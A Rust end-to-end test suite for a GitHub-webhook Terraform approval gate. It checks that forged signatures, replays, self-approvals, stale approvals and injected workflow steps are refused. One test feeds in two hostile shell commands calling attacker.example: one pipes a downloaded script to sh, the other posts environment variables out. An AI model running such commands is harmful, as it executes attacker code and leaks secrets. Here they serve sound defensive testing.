//! End to end through the webhook route: a pull request in the GitHub
//! stand-in goes plan → comment + status → approval by a second person on the
//! head commit → `twokey apply` → apply of the saved plan → result comment,
//! with each attack refused on the way and every step in the ledger.

use crate::terraform::terraform;
use std::sync::Arc;

use twokey_gate::config::GateConfig;
use twokey_gate::db::GateDb;
use twokey_gate::gate::ApiCheckout;
use twokey_gate::github::RestGitHub;
use twokey_gate::testing::{Fixtures, StandIn};
use twokey_gate::webhook::sign;
use twokey_gate::{router, Gate};
use twokey_store::Store;

const REPO: &str = "acme/infra";
const SECRET: &[u8] = b"webhook-secret";

const MAIN_TF: &str = r#"
variable "env" {
  default = "prod"
}
locals {
  bucket = "twokey-${var.env}-logs"
}
output "bucket" {
  value = local.bucket
}
output "leaky" {
  value = "password = \"hunter2-in-plain\""
}
"#;

struct Hook {
    url: String,
    http: reqwest::Client,
    n: u32,
}

impl Hook {
    async fn send(&mut self, event: &str, body: &[u8], secret: &[u8]) -> (u16, String, String) {
        self.n += 1;
        let id = format!("delivery-{}", self.n);
        self.send_as(&id, event, body, secret).await
    }
    async fn send_as(
        &self,
        id: &str,
        event: &str,
        body: &[u8],
        secret: &[u8],
    ) -> (u16, String, String) {
        let (status, text) = twokey_gate::testing::deliver(
            &self.http,
            &self.url,
            event,
            id,
            &sign(secret, body),
            body,
        )
        .await
        .expect("send");
        (status, text, id.to_string())
    }
}

async fn kinds(store: &Store) -> Vec<(String, serde_json::Value)> {
    store
        .ledger(0, 10_000)
        .await
        .expect("ledger")
        .into_iter()
        .map(|e| (e.kind, e.data))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pull_request_plan_approve_apply_with_attacks_refused() {
    let (Some(fixtures), Some(tf)) = (Fixtures::load(), terraform()) else {
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let store = Store::open(&format!("sqlite://{}", dir.path().join("t.db").display()))
        .await
        .expect("store");
    let gh = StandIn::start(fixtures).await.expect("stand-in");
    gh.require_token("test-token");
    for (u, p) in [
        ("alice", "write"),
        ("bob", "write"),
        ("rita", "read"),
        ("mallory", "write"),
    ] {
        gh.set_permission(u, p);
    }
    let conf = format!(
        "[gate]\nallow = [\"{REPO}\"]\nworkdir = \"{}\"\nterraform_bin = \"{}\"\n\n[[gate.project]]\nrepo = \"{REPO}\"\nname = \"prod\"\ndir = \"envs/prod\"\n",
        dir.path().join("work").display(),
        tf.display()
    );
    let github: Arc<dyn twokey_gate::github::GitHub> =
        Arc::new(RestGitHub::new(&gh.url, "test-token").expect("client"));
    let mut gate = Gate::new(
        GateConfig::parse(&conf).expect("config"),
        SECRET.to_vec(),
        GateDb::new(store.clone()),
        github.clone(),
        Arc::new(ApiCheckout {
            github,
            max_bytes: 10 << 20,
        }),
    )
    .with_clock(Arc::new(|| 1_700_000_000_000));
    gate.answer_within = std::time::Duration::from_secs(300);
    let gate = Arc::new(gate);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, router(gate)).await;
    });
    let mut hook = Hook {
        url: format!("http://{addr}/v1/gate/github"),
        http: reqwest::Client::new(),
        n: 0,
    };

    // Forged signature.
    let head1 = gh.open(REPO, 1, "alice", &[("envs/prod/main.tf", MAIN_TF)]);
    let opened = gh.pull_request_event(REPO, 1, "opened", "alice");
    let (st, _, _) = hook.send("pull_request", &opened, b"wrong-secret").await;
    assert_eq!(st, 401);
    assert!(kinds(&store)
        .await
        .iter()
        .any(|(k, d)| k == "gate.refused" && d["reason"] == "signature"));

    // Repository outside the allow-list: ignored, nothing planned.
    let (st, text, _) = hook
        .send(
            "pull_request",
            &String::from_utf8_lossy(&opened)
                .replace(REPO, "evil/infra")
                .into_bytes(),
            SECRET,
        )
        .await;
    assert_eq!(st, 202, "{text}");

    // Opened: autoplan, redacted comment, status.
    let (st, text, id) = hook.send("pull_request", &opened, SECRET).await;
    assert_eq!((st, text.as_str()), (200, "planned 1 project(s)"));
    let comments = gh.comments(REPO, 1);
    let plan = comments
        .iter()
        .find(|c| c.contains("twokey plan `prod`"))
        .expect("plan comment");
    assert!(
        plan.contains("succeeded") && plan.contains("twokey-prod-logs"),
        "{plan}"
    );
    assert!(
        !plan.contains("hunter2-in-plain") && plan.contains("[REDACTED]"),
        "{plan}"
    );
    assert!(gh
        .statuses(&head1)
        .contains(&("twokey/plan".into(), "success".into())));

    // Replayed delivery.
    let (st, text, _) = hook.send_as(&id, "pull_request", &opened, SECRET).await;
    assert_eq!((st, text.as_str()), (200, "duplicate delivery ignored"));

    let apply = |who: &str| gh.comment_event(REPO, 1, who, "twokey apply");
    let last = |gh: &StandIn| gh.comments(REPO, 1).last().cloned().unwrap_or_default();

    // Apply by a read-only user.
    hook.send("issue_comment", &apply("rita"), SECRET).await;
    assert!(last(&gh).contains("commands need write"), "{}", last(&gh));

    // Approval by the author, and by a reader.
    gh.review(REPO, 1, "alice", "APPROVED");
    gh.review(REPO, 1, "rita", "APPROVED");
    let (_, text, _) = hook.send("issue_comment", &apply("alice"), SECRET).await;
    assert_eq!(text, "apply refused");
    let c = last(&gh);
    assert!(
        c.contains("@alice ignored: they are the author")
            && c.contains("@rita ignored: permission Read"),
        "{c}"
    );

    // bob approves, then mallory pushes: bob's approval is stale, mallory's
    // own approval doesn't count.
    gh.review(REPO, 1, "bob", "APPROVED");
    let head2 = gh.push(
        REPO,
        1,
        &[(
            "envs/prod/main.tf",
            &MAIN_TF.replace("\"prod\"", "\"prod2\""),
        )],
    );
    let (st, _, _) = hook
        .send(
            "pull_request",
            &gh.pull_request_event(REPO, 1, "synchronize", "mallory"),
            SECRET,
        )
        .await;
    assert_eq!(st, 200);
    gh.review(REPO, 1, "mallory", "APPROVED");
    let (_, text, _) = hook.send("issue_comment", &apply("alice"), SECRET).await;
    assert_eq!(text, "apply refused");
    let c = last(&gh);
    assert!(c.contains("@bob ignored: it is for older commit"), "{c}");
    assert!(
        c.contains("@mallory ignored: they pushed the head commit"),
        "{c}"
    );

    // Changes requested outstanding.
    gh.review(REPO, 1, "bob", "APPROVED");
    gh.review(REPO, 1, "carol", "CHANGES_REQUESTED");
    gh.set_permission("carol", "write");
    let (_, text, _) = hook.send("issue_comment", &apply("alice"), SECRET).await;
    assert_eq!(text, "apply refused");
    assert!(last(&gh).contains("@carol has requested changes"));
    gh.review(REPO, 1, "carol", "APPROVED");

    // Behind its base.
    gh.set_behind(REPO, 1, true);
    let (_, text, _) = hook.send("issue_comment", &apply("alice"), SECRET).await;
    assert_eq!(text, "apply refused");
    gh.set_behind(REPO, 1, false);

    // Now: bob and carol approved head2, pushed by mallory, authored by alice.
    let (_, text, _) = hook.send("issue_comment", &apply("alice"), SECRET).await;
    assert_eq!(text, "applied 1 project(s)");
    let c = last(&gh);
    assert!(
        c.contains("twokey apply `prod`")
            && c.contains("succeeded")
            && c.contains("Apply complete"),
        "{c}"
    );
    assert!(c.contains("twokey-prod2-logs"), "{c}");

    // A second apply finds no unapplied plan.
    let (_, text, _) = hook.send("issue_comment", &apply("alice"), SECRET).await;
    assert_eq!(text, "no plan");

    let ledger = kinds(&store).await;
    let evidence = ledger
        .iter()
        .find(|(k, _)| k == "gate.apply_evidence")
        .expect("evidence")
        .1
        .clone();
    assert_eq!(evidence["head_sha"], head2.as_str());
    assert_eq!(evidence["last_pusher"], "mallory");
    let approvers: Vec<&str> = evidence["approvals"]
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|a| a["reviewer"].as_str())
        .collect();
    assert!(approvers.contains(&"bob"), "{evidence}");
    assert!(evidence["approvals"]
        .as_array()
        .expect("a")
        .iter()
        .all(|a| a["commit"] == head2.as_str()));
    for kind in ["gate.plan", "gate.apply_result"] {
        assert!(ledger.iter().any(|(k, _)| k == kind), "{kind}");
    }
    let refusals = ledger.iter().filter(|(k, _)| k == "gate.refused").count();
    assert!(refusals >= 6, "{refusals}");

    // Close: locks released.
    hook.send(
        "pull_request",
        &gh.pull_request_event(REPO, 1, "closed", "alice"),
        SECRET,
    )
    .await;
    let db = GateDb::new(store.clone());
    assert_eq!(
        db.lock_holder(REPO, "prod", "default").await.expect("lock"),
        None
    );
}

/// A gate with `extra` added to its `[gate]` table, served on loopback.
async fn setup(extra: &str) -> Option<(tempfile::TempDir, Store, StandIn, Hook)> {
    let (Some(fixtures), Some(tf)) = (Fixtures::load(), terraform()) else {
        return None;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    let store = Store::open(&format!("sqlite://{}", dir.path().join("t.db").display()))
        .await
        .expect("store");
    let gh = StandIn::start(fixtures).await.expect("stand-in");
    gh.require_token("test-token");
    for (u, p) in [("alice", "write"), ("bob", "write"), ("mallory", "write")] {
        gh.set_permission(u, p);
    }
    let conf = format!(
        "[gate]\nallow = [\"{REPO}\"]\nworkdir = \"{}\"\nterraform_bin = \"{}\"\n{extra}\n\n[[gate.project]]\nrepo = \"{REPO}\"\nname = \"prod\"\ndir = \"envs/prod\"\n\n[[gate.project]]\nrepo = \"{REPO}\"\nname = \"staging\"\ndir = \"envs/staging\"\n",
        dir.path().join("work").display(),
        tf.display()
    );
    let github: Arc<dyn twokey_gate::github::GitHub> =
        Arc::new(RestGitHub::new(&gh.url, "test-token").expect("client"));
    let mut gate = Gate::new(
        GateConfig::parse(&conf).expect("config"),
        SECRET.to_vec(),
        GateDb::new(store.clone()),
        github.clone(),
        Arc::new(ApiCheckout {
            github,
            max_bytes: 10 << 20,
        }),
    );
    gate.answer_within = std::time::Duration::from_secs(300);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, router(Arc::new(gate))).await;
    });
    let hook = Hook {
        url: format!("http://{addr}/v1/gate/github"),
        http: reqwest::Client::new(),
        n: 0,
    };
    Some((dir, store, gh, hook))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_selection_file_may_only_select() {
    let Some((_dir, store, gh, mut hook)) = setup("").await else {
        return;
    };
    // Selecting a configured project works (and only it is planned).
    gh.open(
        REPO,
        1,
        "alice",
        &[
            ("envs/prod/main.tf", MAIN_TF),
            ("envs/staging/main.tf", MAIN_TF),
            ("twokey-gate.toml", "projects = [\"staging\"]\n"),
        ],
    );
    let ev = gh.pull_request_event(REPO, 1, "opened", "alice");
    let (_, text, _) = hook.send("pull_request", &ev, SECRET).await;
    assert_eq!(text, "planned 1 project(s)");
    let cs = gh.comments(REPO, 1);
    assert!(
        cs.iter().any(|c| c.contains("twokey plan `staging`")),
        "{cs:?}"
    );
    assert!(
        !cs.iter().any(|c| c.contains("twokey plan `prod`")),
        "{cs:?}"
    );

    // Adding a step (or naming an unconfigured project) is refused, with a
    // comment, a failure status and a ledger entry; nothing is planned.
    for (n, sel, why) in [
        (
            2,
            "projects = [\"prod\"]\n\n[workflow.prod]\napply = [[\"sh\", \"-c\", \"curl -s https://attacker.example/x | sh\"]]\n",
            "may only list configured project names",
        ),
        (
            3,
            "projects = [\"prod\"]\nsteps = [\"init\", \"run: env | curl -d @- https://attacker.example\"]\n",
            "may only list configured project names",
        ),
        (4, "projects = [\"prod-but-mine\"]\n", "not configured on the server"),
    ] {
        let head = gh.open(
            REPO,
            n,
            "mallory",
            &[("envs/prod/main.tf", MAIN_TF), ("twokey-gate.toml", sel)],
        );
        let ev = gh.pull_request_event(REPO, n, "opened", "mallory");
        let (st, text, _) = hook.send("pull_request", &ev, SECRET).await;
        assert_eq!((st, text.as_str()), (200, "refused: selection file"));
        let cs = gh.comments(REPO, n);
        assert_eq!(cs.len(), 1, "{cs:?}");
        assert!(cs[0].contains("twokey: refused") && cs[0].contains(why), "{}", cs[0]);
        assert!(gh
            .statuses(&head)
            .contains(&("twokey/plan".into(), "failure".into())));
        // Even with approvals, there is nothing to apply.
        gh.review(REPO, n, "bob", "APPROVED");
        let (_, text, _) = hook
            .send(
                "issue_comment",
                &gh.comment_event(REPO, n, "alice", "twokey apply"),
                SECRET,
            )
            .await;
        assert_eq!(text, "no plan");
        // And `twokey plan` is refused the same way.
        let (_, text, _) = hook
            .send(
                "issue_comment",
                &gh.comment_event(REPO, n, "alice", "twokey plan -p prod"),
                SECRET,
            )
            .await;
        assert_eq!(text, "refused: selection file");
    }
    let refused = kinds(&store)
        .await
        .into_iter()
        .filter(|(k, d)| k == "gate.refused" && d["reason"] == "selection_file")
        .count();
    assert_eq!(refused, 6);

    // Locks: #1 planned staging, so #5 cannot plan it until #1 unlocks.
    let head5 = gh.open(
        REPO,
        5,
        "alice",
        &[
            ("envs/staging/main.tf", MAIN_TF),
            ("twokey-gate.toml", "projects = [\"staging\"]\n"),
        ],
    );
    hook.send(
        "pull_request",
        &gh.pull_request_event(REPO, 5, "opened", "alice"),
        SECRET,
    )
    .await;
    let cs = gh.comments(REPO, 5);
    assert!(
        cs.iter()
            .any(|c| c.contains("`staging` workspace `default` is locked by #1")),
        "{cs:?}"
    );
    assert!(
        !cs.iter().any(|c| c.contains("twokey plan `staging`")),
        "{cs:?}"
    );
    assert!(gh
        .statuses(&head5)
        .contains(&("twokey/plan".into(), "failure".into())));
    let (_, text, _) = hook
        .send(
            "issue_comment",
            &gh.comment_event(REPO, 1, "bob", "twokey unlock"),
            SECRET,
        )
        .await;
    assert_eq!(text, "unlocked");
    hook.send(
        "issue_comment",
        &gh.comment_event(REPO, 5, "alice", "twokey plan"),
        SECRET,
    )
    .await;
    assert!(gh
        .comments(REPO, 5)
        .iter()
        .any(|c| c.contains("twokey plan `staging`") && c.contains("succeeded")));
    assert!(kinds(&store).await.iter().any(|(k, _)| k == "gate.unlock"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apply_on_merge_needs_the_same_approvals_and_big_bodies_are_refused() {
    let Some((_dir, store, gh, mut hook)) =
        setup("apply_on_merge = true\nmax_body_bytes = 4096").await
    else {
        return;
    };
    // Over the configured limit: 413 and a ledger entry, before any parsing.
    let big = vec![b'{'; 5000];
    let (st, _, _) = hook.send("pull_request", &big, SECRET).await;
    assert_eq!(st, 413);
    assert!(kinds(&store)
        .await
        .iter()
        .any(|(k, d)| k == "gate.refused" && d["reason"] == "body_too_large"));

    // Merged without an eligible approval: not applied.
    let files = [("envs/prod/main.tf", MAIN_TF)];
    gh.open(REPO, 1, "alice", &files);
    let ev = gh.pull_request_event(REPO, 1, "opened", "alice");
    // The example payload is bigger than 4 KiB: keep only what the gate reads.
    let slim = |ev: &[u8]| {
        let v: serde_json::Value = serde_json::from_slice(ev).expect("json");
        serde_json::to_vec(&serde_json::json!({
            "action": v["action"],
            "number": v["number"],
            "pull_request": {
                "number": v["pull_request"]["number"],
                "user": { "login": v["pull_request"]["user"]["login"] },
                "head": { "sha": v["pull_request"]["head"]["sha"], "ref": "feature" },
                "base": { "sha": "0000000", "ref": "main" },
                "state": v["pull_request"]["state"],
                "merged": v["pull_request"]["merged"],
            },
            "repository": { "full_name": v["repository"]["full_name"] },
            "sender": { "login": v["sender"]["login"] },
        }))
        .expect("json")
    };
    let (_, text, _) = hook.send("pull_request", &slim(&ev), SECRET).await;
    assert_eq!(text, "planned 1 project(s)");
    gh.review(REPO, 1, "alice", "APPROVED");
    gh.merge(REPO, 1);
    hook.send(
        "pull_request",
        &slim(&gh.pull_request_event(REPO, 1, "closed", "alice")),
        SECRET,
    )
    .await;
    let c = gh.comments(REPO, 1).last().cloned().unwrap_or_default();
    assert!(
        c.contains("apply refused") && c.contains("they are the author"),
        "{c}"
    );

    // Merged with bob's approval on the head: applied on merge.
    gh.open(REPO, 2, "alice", &files);
    let (_, text, _) = hook
        .send(
            "pull_request",
            &slim(&gh.pull_request_event(REPO, 2, "opened", "alice")),
            SECRET,
        )
        .await;
    assert_eq!(text, "planned 1 project(s)");
    gh.review(REPO, 2, "bob", "APPROVED");
    gh.merge(REPO, 2);
    hook.send(
        "pull_request",
        &slim(&gh.pull_request_event(REPO, 2, "closed", "bob")),
        SECRET,
    )
    .await;
    let c = gh.comments(REPO, 2).last().cloned().unwrap_or_default();
    assert!(
        c.contains("twokey apply `prod`") && c.contains("Apply complete"),
        "{c}"
    );
    let ev = kinds(&store)
        .await
        .into_iter()
        .find(|(k, _)| k == "gate.apply_evidence")
        .expect("evidence")
        .1;
    assert_eq!(ev["on_merge"], true);
    assert_eq!(ev["approvals"][0]["reviewer"], "bob");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn github_rate_limits_are_waited_out_and_mergeability_is_awaited() {
    let Some((_dir, _store, gh, mut hook)) = setup("").await else {
        return;
    };
    gh.open(REPO, 1, "alice", &[("envs/prod/main.tf", MAIN_TF)]);
    // Secondary rate limit on the next calls: waited out (Retry-After).
    gh.throttle(2);
    let (_, text, _) = hook
        .send(
            "pull_request",
            &gh.pull_request_event(REPO, 1, "opened", "alice"),
            SECRET,
        )
        .await;
    assert_eq!(text, "planned 1 project(s)");
    assert_eq!(gh.throttled(), 2);
    // After a push GitHub first answers `mergeable: null`; the apply asks
    // again instead of refusing.
    let head = gh.push(REPO, 1, &[("envs/prod/extra.tf", "locals {\n  x = 1\n}\n")]);
    hook.send(
        "pull_request",
        &gh.pull_request_event(REPO, 1, "synchronize", "alice"),
        SECRET,
    )
    .await;
    gh.review(REPO, 1, "bob", "APPROVED");
    let (_, text, _) = hook
        .send(
            "issue_comment",
            &gh.comment_event(REPO, 1, "alice", "twokey apply"),
            SECRET,
        )
        .await;
    assert_eq!(text, "applied 1 project(s)", "{:?}", gh.comments(REPO, 1));
    assert!(gh
        .comments(REPO, 1)
        .last()
        .is_some_and(|c| c.contains(&format!("at {}: succeeded", &head[..7]))));

    // The advice GitHub gives, read right.
    use reqwest::header::{HeaderMap, HeaderValue};
    use std::time::Duration;
    use twokey_gate::github::rate_limit_wait;
    let mut h = HeaderMap::new();
    assert_eq!(
        rate_limit_wait(403, &h, 0),
        None,
        "a plain 403 is a refusal"
    );
    assert_eq!(rate_limit_wait(429, &h, 0), Some(Duration::from_secs(60)));
    h.insert("x-ratelimit-remaining", HeaderValue::from_static("0"));
    h.insert("x-ratelimit-reset", HeaderValue::from_static("1000"));
    assert_eq!(rate_limit_wait(403, &h, 970), Some(Duration::from_secs(30)));
    h.insert("retry-after", HeaderValue::from_static("5"));
    assert_eq!(rate_limit_wait(403, &h, 970), Some(Duration::from_secs(5)));
    assert_eq!(rate_limit_wait(404, &h, 970), None);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_writer_of_the_head_commit_cannot_approve_it() {
    let Some((_dir, store, gh, mut hook)) = setup("").await else {
        return;
    };
    // mallory wrote and pushed the branch; alice opened the pull request
    // (so the `opened` webhook names alice as the sender).
    let head = gh.open(REPO, 1, "alice", &[("envs/prod/main.tf", MAIN_TF)]);
    gh.set_commit_author(&head, "mallory");
    hook.send(
        "pull_request",
        &gh.pull_request_event(REPO, 1, "opened", "alice"),
        SECRET,
    )
    .await;
    gh.review(REPO, 1, "mallory", "APPROVED");
    let (_, text, _) = hook
        .send(
            "issue_comment",
            &gh.comment_event(REPO, 1, "alice", "twokey apply"),
            SECRET,
        )
        .await;
    assert_eq!(text, "apply refused");
    let c = gh.comments(REPO, 1).last().cloned().unwrap_or_default();
    assert!(
        c.contains("@mallory ignored: they wrote the head commit"),
        "{c}"
    );
    gh.review(REPO, 1, "bob", "APPROVED");
    let (_, text, _) = hook
        .send(
            "issue_comment",
            &gh.comment_event(REPO, 1, "alice", "twokey apply"),
            SECRET,
        )
        .await;
    assert_eq!(text, "applied 1 project(s)");
    let ev = kinds(&store)
        .await
        .into_iter()
        .find(|(k, _)| k == "gate.apply_evidence")
        .expect("evidence")
        .1;
    assert_eq!(ev["head_authors"], serde_json::json!(["mallory"]));
}
